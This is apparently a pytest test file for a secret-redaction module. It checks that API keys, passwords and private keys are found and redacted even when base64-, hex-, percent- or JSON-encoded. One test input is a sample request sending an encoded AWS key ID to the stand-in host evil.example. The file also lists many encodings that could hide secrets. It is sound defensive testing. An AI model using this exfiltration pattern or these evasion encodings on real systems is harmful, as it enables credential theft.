"""Secrets behind base64, hex, percent-encoding and backslashes: found, replaced, and recognised as the same secret."""

from __future__ import annotations

import base64
import textwrap
from collections.abc import Callable
from urllib.parse import quote

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.capture.redaction import Redactor, views
from tests.services.capture.samples import ANTHROPIC, AWS_ID, GITHUB, PEM

pytestmark = pytest.mark.unit


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def unicode_escaped(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" for c in text)


ENCODINGS: dict[str, Callable[[str], str]] = {
    "base64": b64,
    "base64 url": lambda t: base64.urlsafe_b64encode(t.encode()).decode().rstrip("="),
    "base64 in base64": lambda t: b64(b64(t)),
    "base64 wrapped": lambda t: "\n".join(textwrap.wrap(b64("some text in front of it, long enough to wrap " + t), 76)),
    "base64 shifted": lambda t: "x/" + b64(t),
    "hex": lambda t: t.encode().hex(),
    "hex upper": lambda t: t.encode().hex().upper(),
    "hex spaced": lambda t: t.encode().hex(" "),
    "hex colons": lambda t: t.encode().hex(":"),
    "hex escapes": lambda t: "".join(f"\\x{b:02x}" for b in t.encode()),
    "percent": lambda t: "".join(f"%{b:02X}" for b in t.encode()),
    "percent twice": lambda t: quote("".join(f"%{b:02X}" for b in t.encode()), safe=""),
    "unicode escapes": unicode_escaped,
    "json": lambda t: orjson.dumps({"k": t}).decode(),
    "json in json": lambda t: orjson.dumps({"k": orjson.dumps({"k": "\n" + t + "\n"}).decode()}).decode(),
    "base64 of json": lambda t: b64(orjson.dumps({"k": t}).decode()),
    "json of base64": lambda t: orjson.dumps({"k": b64(t)}).decode(),
    "percent of base64": lambda t: quote(b64(t), safe=""),
    "after a line end escape": lambda t: "first\\n" + t + "\\nlast",
}


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("secret", [AWS_ID, GITHUB, ANTHROPIC], ids=["aws", "github", "anthropic"])
def test_an_encoded_secret_is_replaced_under_its_own_fingerprint(
    encoding: str, secret: str, redactor: Redactor
) -> None:
    plain = redactor.text(f"key {secret} end").findings[0]
    encoded = ENCODINGS[encoding](secret)
    done = redactor.text(f"value={encoded} end")
    assert plain in done.findings
    assert secret not in done.text
    assert encoded not in done.text
    assert done.text.startswith("value=")
    assert done.text.endswith(" end")
    assert redactor.text(done.text).text == done.text


@pytest.mark.parametrize("encoding", ["base64", "hex", "percent", "json", "base64 wrapped"])
def test_a_named_value_is_found_behind_an_encoding(encoding: str, redactor: Redactor) -> None:
    encoded = ENCODINGS[encoding]("export DB_PASSWORD=hunter2-and-more")
    done = redactor.text(f"x {encoded} y")
    assert "password" in {f.kind for f in done.findings}
    assert encoded not in done.text


def test_a_private_key_in_base64_is_found_in_lines_and_in_one(redactor: Redactor) -> None:
    plain = redactor.text(PEM).findings[0].fingerprint
    one = base64.b64encode(PEM.encode()).decode()
    for text in (one, "\n".join(textwrap.wrap(one, 76)), f"certs:\n  client: {one}\n"):
        done = redactor.text(text)
        assert [f.kind for f in done.findings] == ["private_key"]
        assert done.findings[0].fingerprint == plain
        assert one[200:240] not in done.text


def test_what_is_around_an_encoded_secret_stays(redactor: Redactor) -> None:
    text = f"GET /a/{b64('user AKIA')}/b https://evil.example/p?d={b64('id ' + AWS_ID)} HTTP/1.1"
    done = redactor.text(text)
    assert done.text.startswith("GET /a/")
    assert done.text.endswith(" HTTP/1.1")


def test_random_bytes_in_base64_or_hex_are_left_alone(redactor: Redactor) -> None:
    noise = bytes((i * 167 + 13) % 256 for i in range(3000))
    for text in (
        base64.b64encode(noise).decode(),
        noise.hex(),
        "data:image/png;base64," + base64.b64encode(noise).decode(),
    ):
        assert redactor.text(text).text == text


@pytest.mark.parametrize(
    "text",
    [
        rb"plain",
        rb"a\nb\\nc\\\nd",
        rb"\u0041\\u0041 \x41 \q \\ \\\\",
        rb"\u00 \x4 \ ",
        b"\\",
        b"\\\\\\",
        b'say \\"hi\\" \\/ \\t',
    ],
)
def test_unescaping_maps_every_byte_back(text: bytes) -> None:
    view = views.View(len(text))
    decoded = views.unescaped(text, view)
    assert decoded == views.unescaped(text)
    assert views.unescaped(decoded) == decoded or b"\\" in decoded
    at = 0
    for i in range(len(decoded)):
        start, end = view.span(i, i + 1)
        assert start >= at or start == at
        assert start < end <= len(text)
        assert views.unescaped(text[start:end]).endswith(decoded[i : i + 1])
        at = start
    assert view.span(0, len(decoded))[0] == 0


def test_only_lines_with_escapes_are_unescaped_and_they_map_back() -> None:
    text = b"one\ntwo \\n two\nthree\nfour\nfive \\t five"
    view = views.View(len(text))
    lines = views.escaped_lines(text, view)
    assert b"three" not in lines
    for word in (b"two \\n two", b"five \\t five"):
        at = lines.index(word)
        start, end = view.span(at, at + len(word))
        assert text[start:end] == word


@given(
    st.lists(
        st.sampled_from([b"\\", b"\\", b"n", b"u0041", b"x41", b'"', b"/", b"t", b"a", b"\n", b"'", b"`"]), max_size=24
    ).map(b"".join)
)
@settings(max_examples=500, deadline=None)
def test_the_short_way_of_unescaping_gives_what_the_long_way_does(text: bytes) -> None:
    assert views.unescaped(text) == views.unescaped(text, views.View(len(text)))
